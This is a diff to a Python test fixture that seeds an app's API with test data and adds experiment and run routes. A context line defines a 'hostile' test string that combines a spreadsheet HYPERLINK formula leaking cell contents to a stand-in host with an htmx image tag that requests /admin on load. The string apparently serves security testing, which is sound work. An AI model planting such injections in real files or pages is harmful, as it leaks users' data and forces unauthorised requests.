@@ -8,6 +8,8 @@ from typing import Any
 
 import httpx
 
+from tests.console import world_experiment
+
 HOSTILE = '=HYPERLINK("http://x?"&A1)<img src=x hx-get=/admin hx-trigger=load>'
 
 ADDRESSES: Mapping[str, str] = {
@@ -28,6 +30,12 @@ ADDRESSES: Mapping[str, str] = {
     "assignment": "/assignments/{assignment}",
     "agents": "/agents",
     "agent": "/agents/edit?id=nora",
+    "experiments": "/experiments",
+    "experiment-new": "/experiments/new?cohort={dynamic}",
+    "experiment": "/experiments/{experiment}",
+    "experiment-edited": "/experiments/{experiment}/edit",
+    "run": "/experiments/{experiment}/runs/{run}",
+    "run-summary": "/experiments/{experiment}/runs/{run}/summary",
     "jobs": "/jobs",
     "job": "/jobs/{job}",
 }
@@ -60,7 +68,14 @@ async def build(api: httpx.AsyncClient, *, hostile: bool = False) -> dict[str, s
         await _sent(api.patch(f"/v1/leads/lead-{place:02}", json={"score": 30 if place % 2 else 75 + place}))
     jobs = (await _sent(api.get("/v1/jobs"))).json()["items"]
     assignment = await _assignment(api, board, name)
-    return {"dynamic": dynamic, "static": static, "board": board, "job": jobs[-1]["id"], "assignment": assignment}
+    return {
+        "dynamic": dynamic,
+        "static": static,
+        "board": board,
+        "job": jobs[-1]["id"],
+        "assignment": assignment,
+        **await world_experiment.build(api, static, name),
+    }
 
 
 def addresses(world: Mapping[str, str]) -> dict[str, str]:
